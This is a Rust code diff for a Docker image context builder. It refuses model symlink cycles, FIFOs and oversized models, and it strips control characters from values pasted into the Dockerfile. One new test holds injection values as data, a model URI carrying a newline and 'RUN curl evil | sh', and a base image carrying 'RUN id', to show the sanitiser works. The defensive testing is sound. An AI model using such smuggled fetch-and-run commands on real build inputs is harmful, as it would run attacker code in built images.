@@ -29,6 +29,9 @@ pub struct Spec<'a> {
     pub torch_plugin: Option<&'a Path>,
     /// libtorch's directory (`LIBTORCH`), else next to the plugin or in the project's `.local`.
     pub libtorch: Option<&'a Path>,
+    /// The most bytes and files the copied model may hold (`--max-model-bytes`,
+    /// `--max-model-files`).
+    pub model_limits: crate::resolve::cache::Limits,
 }
 
 /// Writes the context into `dir` (created if missing; `Dockerfile`, `mlflow-serve/`,
@@ -51,7 +54,7 @@ pub fn write(dir: &Path, spec: &Spec) -> Result<(), ImageError> {
         copy_torch(spec.torch_plugin, spec.libtorch, &bin)?;
     }
     if let Some(model) = spec.model_dir {
-        copy_model(model, &dir.join("model"))?;
+        copy_model(model, &dir.join("model"), spec.model_limits)?;
     }
     mkdir(&dir.join("cache"))?;
     let dockerfile = dockerfile(spec);
@@ -76,9 +79,18 @@ pub fn dockerfile(spec: &Spec) -> String {
         .replace("{command}", spec.command)
         .replace("{version}", env!("CARGO_PKG_VERSION"))
         .replace("{what}", what)
-        .replace("{uri}", spec.model_uri.unwrap_or("nothing (no -m)"))
-        .replace("{base_image}", spec.base_image)
+        .replace(
+            "{uri}",
+            &printable(spec.model_uri.unwrap_or("nothing (no -m)")),
+        )
+        .replace("{base_image}", &printable(spec.base_image))
         .replace("{model_copy}", &model_copy)
+}
+
+/// Text pasted into the Dockerfile without its control characters: a newline in a model URI
+/// or a base image name would otherwise start a Dockerfile instruction of its own.
+fn printable(s: &str) -> String {
+    s.chars().filter(|c| !c.is_control()).collect()
 }
 
 /// The highest `GLIBC_2.N` version an ELF executable asks for, from its version-needs strings.
@@ -183,10 +195,10 @@ fn copy_torch(
         })?;
     // The plugin's rpath finds $ORIGIN/libtorch/torch/lib; libtorch_cpu's finds the CUDA
     // runtime stubs it links at $ORIGIN/../../nvidia/cu13/lib.
-    copy_tree(&torch.join("lib"), &bin.join("libtorch/torch/lib"), None)?;
+    copy_tree(&torch.join("lib"), &bin.join("libtorch/torch/lib"))?;
     if let Some(root) = torch.parent() {
         if root.join("nvidia").is_dir() {
-            copy_tree(&root.join("nvidia"), &bin.join("libtorch/nvidia"), None)?;
+            copy_tree(&root.join("nvidia"), &bin.join("libtorch/nvidia"))?;
         }
     }
     Ok(())
@@ -205,15 +217,95 @@ fn copy_torch(
     ))
 }
 
-/// The model directory, links followed only when they stay inside it.
-fn copy_model(model: &Path, dst: &Path) -> Result<(), ImageError> {
+/// The model directory, links followed only when they stay inside it, each directory at
+/// most once on a path (a link back to an ancestor is a cycle: refused), regular files and
+/// directories only, within the model limits.
+fn copy_model(
+    model: &Path,
+    dst: &Path,
+    limits: crate::resolve::cache::Limits,
+) -> Result<(), ImageError> {
     let root = fs::canonicalize(model).map_err(|e| io("cannot read", model.to_path_buf(), e))?;
-    copy_tree(&root, dst, Some(&root))
+    let mut walk = ModelWalk {
+        root: root.clone(),
+        chain: Vec::new(),
+        bytes: 0,
+        files: 0,
+        limits,
+    };
+    walk.copy_dir(&root, dst)
 }
 
-/// Copies a directory tree. With `inside`, a symbolic link is followed only when it leads
-/// inside that directory (a model from a registry must not pull other files into an image).
-fn copy_tree(src: &Path, dst: &Path, inside: Option<&Path>) -> Result<(), ImageError> {
+/// What a model copy has walked so far.
+struct ModelWalk {
+    root: PathBuf,
+    /// The canonical directories being copied, outermost first.
+    chain: Vec<PathBuf>,
+    bytes: u64,
+    files: usize,
+    limits: crate::resolve::cache::Limits,
+}
+
+impl ModelWalk {
+    fn copy_dir(&mut self, src: &Path, dst: &Path) -> Result<(), ImageError> {
+        let canonical =
+            fs::canonicalize(src).map_err(|e| io("cannot read", src.to_path_buf(), e))?;
+        if self.chain.contains(&canonical) {
+            return Err(ImageError::BadModel(format!(
+                "{} links back to a directory that contains it (a cycle): not copied into an image",
+                src.display()
+            )));
+        }
+        self.chain.push(canonical);
+        mkdir(dst)?;
+        let entries = fs::read_dir(src).map_err(|e| io("cannot read", src.to_path_buf(), e))?;
+        for entry in entries {
+            let entry = entry.map_err(|e| io("cannot read", src.to_path_buf(), e))?;
+            let path = entry.path();
+            let to = dst.join(entry.file_name());
+            let meta =
+                fs::symlink_metadata(&path).map_err(|e| io("cannot read", path.clone(), e))?;
+            let (target, meta) = if meta.file_type().is_symlink() {
+                let target =
+                    fs::canonicalize(&path).map_err(|e| io("cannot follow", path.clone(), e))?;
+                if !target.starts_with(&self.root) {
+                    return Err(ImageError::BadModel(format!(
+                        "{} links outside the model directory: not copied into an image",
+                        path.display()
+                    )));
+                }
+                let meta =
+                    fs::metadata(&target).map_err(|e| io("cannot read", target.clone(), e))?;
+                (target, meta)
+            } else {
+                (path.clone(), meta)
+            };
+            if meta.is_dir() {
+                self.copy_dir(&target, &to)?;
+            } else if meta.is_file() {
+                self.files += 1;
+                self.bytes = self.bytes.saturating_add(meta.len());
+                if self.files > self.limits.max_files || self.bytes > self.limits.max_bytes {
+                    return Err(ImageError::BadModel(format!(
+                        "the model directory holds more than {} files or {} bytes (--max-model-files, --max-model-bytes): not copied into an image",
+                        self.limits.max_files, self.limits.max_bytes
+                    )));
+                }
+                copy_file(&target, &to)?;
+            } else {
+                return Err(ImageError::BadModel(format!(
+                    "{} is not a regular file or a directory (a FIFO, socket or device): not copied into an image",
+                    path.display()
+                )));
+            }
+        }
+        self.chain.pop();
+        Ok(())
+    }
+}
+
+/// Copies a library tree: links stay links (`libfoo.so -> libfoo.so.1`).
+fn copy_tree(src: &Path, dst: &Path) -> Result<(), ImageError> {
     mkdir(dst)?;
     let entries = fs::read_dir(src).map_err(|e| io("cannot read", src.to_path_buf(), e))?;
     for entry in entries {
@@ -222,31 +314,10 @@ fn copy_tree(src: &Path, dst: &Path, inside: Option<&Path>) -> Result<(), ImageE
         let to = dst.join(entry.file_name());
         let meta = fs::symlink_metadata(&path).map_err(|e| io("cannot read", path.clone(), e))?;
         if meta.file_type().is_symlink() {
-            let target =
-                fs::canonicalize(&path).map_err(|e| io("cannot follow", path.clone(), e))?;
-            match inside {
-                Some(root) if !target.starts_with(root) => {
-                    return Err(ImageError::BadModel(format!(
-                        "{} links outside the model directory: not copied into an image",
-                        path.display()
-                    )))
-                }
-                Some(_) => {}
-                None => {
-                    // library trees: keep links as links (libfoo.so -> libfoo.so.1)
-                    let link =
-                        fs::read_link(&path).map_err(|e| io("cannot read", path.clone(), e))?;
-                    symlink_path(&link, &to)?;
-                    continue;
-                }
-            }
-            if target.is_dir() {
-                copy_tree(&target, &to, inside)?;
-            } else {
-                copy_file(&target, &to)?;
-            }
+            let link = fs::read_link(&path).map_err(|e| io("cannot read", path.clone(), e))?;
+            symlink_path(&link, &to)?;
         } else if meta.is_dir() {
-            copy_tree(&path, &to, inside)?;
+            copy_tree(&path, &to)?;
         } else if meta.is_file() {
             copy_file(&path, &to)?;
         }
@@ -327,6 +398,7 @@ mod tests {
             onnxruntime_lib: None,
             torch_plugin: None,
             libtorch: None,
+            model_limits: Default::default(),
         };
         let text = dockerfile(&spec);
         assert!(
@@ -389,15 +461,73 @@ mod tests {
         fs::write(model.join("MLmodel"), "x").unwrap();
         fs::write(model.join("sub/a.bin"), "a").unwrap();
         std::os::unix::fs::symlink("sub/a.bin", model.join("inner-link")).unwrap();
-        copy_model(&model, &tmp.path().join("out")).unwrap();
+        copy_model(&model, &tmp.path().join("out"), Default::default()).unwrap();
         assert_eq!(fs::read(tmp.path().join("out/inner-link")).unwrap(), b"a");
         assert_eq!(fs::read(tmp.path().join("out/sub/a.bin")).unwrap(), b"a");
 
         fs::write(tmp.path().join("secret"), "s").unwrap();
         std::os::unix::fs::symlink(tmp.path().join("secret"), model.join("leak")).unwrap();
-        let err = copy_model(&model, &tmp.path().join("out2"))
+        let err = copy_model(&model, &tmp.path().join("out2"), Default::default())
             .unwrap_err()
             .to_string();
         assert!(err.contains("links outside the model directory"), "{err}");
+    }
+
+    #[test]
+    fn cycles_fifos_and_oversized_models_are_refused() {
+        use crate::resolve::cache::Limits;
+        let tmp = tempfile::tempdir().unwrap();
+        let model = tmp.path().join("m");
+        fs::create_dir_all(&model).unwrap();
+        fs::write(model.join("MLmodel"), "x").unwrap();
+        // `loop -> .`: once copied 806 times over, until the path was too long.
+        std::os::unix::fs::symlink(".", model.join("loop")).unwrap();
+        let err = copy_model(&model, &tmp.path().join("o1"), Limits::default())
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("cycle"), "{err}");
+        fs::remove_file(model.join("loop")).unwrap();
+        let status = std::process::Command::new("mkfifo")
+            .arg(model.join("pipe"))
+            .status()
+            .unwrap();
+        assert!(status.success());
+        let err = copy_model(&model, &tmp.path().join("o2"), Limits::default())
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("not a regular file"), "{err}");
+        fs::remove_file(model.join("pipe")).unwrap();
+        fs::write(model.join("big.bin"), vec![0u8; 1000]).unwrap();
+        let small = Limits {
+            max_bytes: 500,
+            max_files: 10,
+        };
+        let err = copy_model(&model, &tmp.path().join("o3"), small)
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("--max-model-bytes"), "{err}");
+    }
+
+    #[test]
+    fn control_characters_never_reach_the_dockerfile() {
+        let spec = Spec {
+            command: "generate-dockerfile",
+            model_dir: None,
+            model_uri: Some("models:/m/1\nRUN curl evil | sh"),
+            target: Target::Onnx,
+            base_image: "debian:12\nRUN id",
+            onnxruntime_lib: None,
+            torch_plugin: None,
+            libtorch: None,
+            model_limits: Default::default(),
+        };
+        let text = dockerfile(&spec);
+        assert!(
+            !text
+                .lines()
+                .any(|l| l.starts_with("RUN curl") || l.starts_with("RUN id")),
+            "{text}"
+        );
+        assert!(text.contains("models:/m/1RUN curl evil | sh"), "{text}");
     }
 }
